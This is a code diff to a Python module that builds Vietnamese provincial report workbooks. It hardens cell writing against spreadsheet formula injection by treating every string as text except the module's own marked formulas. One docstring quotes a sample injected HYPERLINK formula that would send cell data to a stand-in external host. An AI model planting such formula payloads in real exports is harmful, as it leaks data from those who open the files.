@@ -59,15 +59,41 @@ def _page_setup(ws: Worksheet, title_rows: str, fingerprint: str, code: str) -> 
     ws.oddFooter.center.size = 8
 
 
+class Formula(str):
+    """A formula this module writes on purpose (totals, results). Every other string is written as text."""
+
+
+def _cell(ws: Worksheet, row: int, col: int, value: object) -> Any:
+    """The one way a value reaches a cell. openpyxl turns any string starting with "=" into a live formula
+    (and "#N/A" into an error): a name such as `=HYPERLINK("http://x.example/?d="&A1,"click")` from a
+    bundle would run in the province's Excel. So a string is a string cell unless it is one of our Formulas."""
+    cell = ws.cell(row=row, column=col, value=value)
+    if isinstance(value, Formula):
+        ws.parent.__dict__.setdefault("_lhtl_formulas", set()).add((id(ws), cell.coordinate))
+    elif isinstance(value, str):
+        cell.data_type = "s"
+    return cell
+
+
+def _text_is_text(wb: Workbook) -> None:
+    """Safety net before saving: no formula or error cell but those written as Formula."""
+    ours: set[tuple[int, str]] = wb.__dict__.get("_lhtl_formulas", set())
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type in ("f", "e") and (id(ws), cell.coordinate) not in ours:
+                    cell.data_type = "s"
+
+
 def _header(ws: Worksheet, row: int, titles: Sequence[str], widths: Sequence[float]) -> None:
     for col, (title, width) in enumerate(zip(titles, widths, strict=True), 1):
-        cell = ws.cell(row=row, column=col, value=title)
+        cell = _cell(ws, row, col, title)
         cell.font, cell.alignment, cell.border = BOLD, HEAD_ALIGN, BORDER
         ws.column_dimensions[get_column_letter(col)].width = width
 
 
 def _title(ws: Worksheet, text: str, ncols: int, row: int = 1) -> None:
-    ws.cell(row=row, column=1, value=text).font = TITLE
+    _cell(ws, row, 1, text).font = TITLE
     ws.merge_cells(start_row=row, start_column=1, end_row=row, end_column=max(ncols, 1))
 
 
@@ -75,9 +101,7 @@ def _put(ws: Worksheet, row: int, col: int, value: object, fmt: str | None = Non
          align: Alignment | None = None) -> None:
     """Write a bordered cell. Styling a cell through openpyxl's descriptors costs a list search per
     attribute; cells of one look share a style array, so it is computed once per workbook and copied."""
-    cell = ws.cell(row=row, column=col, value=value)
-    if isinstance(value, str):
-        cell.data_type = "s"  # a name from a return form may begin with «=»: text, never a formula
+    cell = _cell(ws, row, col, value)
     styles: dict[tuple[int, str | None, int], Any] = ws.parent.__dict__.setdefault("_lhtl_styles", {})
     key = (id(font), fmt, id(align))
     cached = styles.get(key)
@@ -101,7 +125,7 @@ def _cover(wb: Workbook, r: Report) -> None:
     center = Alignment(horizontal="center", vertical="center", wrap_text=True)
 
     def merged(row: int, c1: int, c2: int, value: str, font: Font) -> None:
-        cell = ws.cell(row=row, column=c1, value=value)
+        cell = _cell(ws, row, c1, value)
         cell.font, cell.alignment = font, center
         ws.merge_cells(start_row=row, start_column=c1, end_row=row, end_column=c2)
 
@@ -126,9 +150,9 @@ def _cover(wb: Workbook, r: Report) -> None:
         (_("Các trang tính"), ", ".join((TARGETS, UNITS, VALUES, MISSING))),
     ]
     for i, (label, value) in enumerate(facts, 11):
-        ws.cell(row=i, column=1, value=label).font = BOLD
+        _cell(ws, i, 1, label).font = BOLD
         ws.merge_cells(start_row=i, start_column=1, end_row=i, end_column=3)
-        ws.cell(row=i, column=5, value=value).font = BODY
+        _cell(ws, i, 5, value).font = BODY
         ws.merge_cells(start_row=i, start_column=5, end_row=i, end_column=8)
     merged(18, 1, 3, _("NGƯỜI LẬP BIỂU"), Font(name=FONT, size=13, bold=True))
     merged(18, 5, 8, _("THỦ TRƯỞNG ĐƠN VỊ"), Font(name=FONT, size=13, bold=True))
@@ -169,12 +193,12 @@ def _units(wb: Workbook, r: Report) -> tuple[dict[str, tuple[str, str]], int]:
     for t in r.targets:
         subs = (_("Đạt"), _("Tổng")) if t.kind == TargetKind.SHARE else (_("Năm {y}").format(y=r.year),
                                                                          _("Năm {y}").format(y=r.year - 1))
-        head = ws.cell(row=2, column=col, value=TARGET_SHORT.get(t.code, t.code) + f" ({t.code})")
+        head = _cell(ws, 2, col, TARGET_SHORT.get(t.code, t.code) + f" ({t.code})")
         head.font, head.alignment, head.border = BOLD, HEAD_ALIGN, BORDER
         ws.cell(row=2, column=col + 1).border = BORDER
         ws.merge_cells(start_row=2, start_column=col, end_row=2, end_column=col + 1)
         for k, sub in enumerate(subs):
-            c = ws.cell(row=3, column=col + k, value=sub)
+            c = _cell(ws, 3, col + k, sub)
             c.font, c.alignment, c.border = BOLD, HEAD_ALIGN, BORDER
             ws.column_dimensions[get_column_letter(col + k)].width = 13 if t.kind == TargetKind.GROWTH else 8
         columns[t.code] = (get_column_letter(col), get_column_letter(col + 1))
@@ -199,11 +223,11 @@ def _units(wb: Workbook, r: Report) -> tuple[dict[str, tuple[str, str]], int]:
         _put(ws, total_row, c, None)
     for c in (4, 5):
         letter = get_column_letter(c)
-        _put(ws, total_row, c, f"=SUM({letter}{first}:{letter}{last})", INT_FORMAT, BOLD)
+        _put(ws, total_row, c, Formula(f"=SUM({letter}{first}:{letter}{last})"), INT_FORMAT, BOLD)
     for t in r.targets:
         total = r.total.counts[t.code]
         for letter, value in zip(columns[t.code], total, strict=True):
-            formula = f"=SUM({letter}{first}:{letter}{last})" if value is not None else None
+            formula = Formula(f"=SUM({letter}{first}:{letter}{last})") if value is not None else None
             _put(ws, total_row, _col(letter), formula, INT_FORMAT, BOLD)
     ws.freeze_panes = "D4"
     _page_setup(ws, "2:3", r.fingerprint, r.code)
@@ -223,7 +247,7 @@ def _targets(wb: Workbook, r: Report, columns: dict[str, tuple[str, str]], total
     widths = [6, 20, 50, 12, 12, 12, 11, 10, 9, 14, 12, 24]
     _title(ws, _("Kết quả thực hiện các chỉ tiêu năm {y} — {scope}").format(y=r.year, scope=r.scope_line),
            len(titles))
-    ws.cell(row=2, column=1, value=_(
+    _cell(ws, 2, 1, _(
         "Tỉ lệ: tử số = số thiết chế đạt tiêu chí, mẫu số = số thiết chế đang hoạt động; tăng trưởng: tử số = "
         "tổng năm {y}, mẫu số = tổng năm {p}. Tử số, mẫu số lấy từ dòng tổng của trang «{units}».").format(
             y=r.year, p=r.year - 1, units=UNITS)).font = ITALIC
@@ -233,13 +257,13 @@ def _targets(wb: Workbook, r: Report, columns: dict[str, tuple[str, str]], total
     for n, t in enumerate(r.targets, 1):
         row = 3 + n
         ncol, dcol = columns[t.code]
-        num = f"={src}!{ncol}{total_row}" if t.numerator is not None else None
-        den = f"={src}!{dcol}{total_row}" if t.denominator is not None else None
+        num = Formula(f"={src}!{ncol}{total_row}") if t.numerator is not None else None
+        den = Formula(f"={src}!{dcol}{total_row}") if t.denominator is not None else None
         if t.kind == TargetKind.SHARE:
-            value = f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),E{row}/F{row}*100,"")'
+            value = Formula(f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),E{row}/F{row}*100,"")')
             kind = _("Tỉ lệ")
         else:
-            value = f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),(E{row}/F{row}-1)*100,"")'
+            value = Formula(f'=IF(AND(ISNUMBER(E{row}),ISNUMBER(F{row}),F{row}>0),(E{row}/F{row}-1)*100,"")')
             kind = _("Tăng trưởng")
         note = _("{mark} số liệu tạm tính (xung đột)").format(mark=CONFLICT_MARK) if t.provisional else None
         for c, (v, fmt) in enumerate(((n, None), (t.code, None), (t.label, None), (kind, None), (num, INT_FORMAT),
@@ -298,6 +322,7 @@ def render_xlsx(report: Report) -> bytes:
     _missing(wb, report)
     wb.properties.title = " ".join(report.title_lines)
     wb.properties.creator = "lhtl"
+    _text_is_text(wb)
     buf = io.BytesIO()
     wb.save(buf)
     return buf.getvalue()
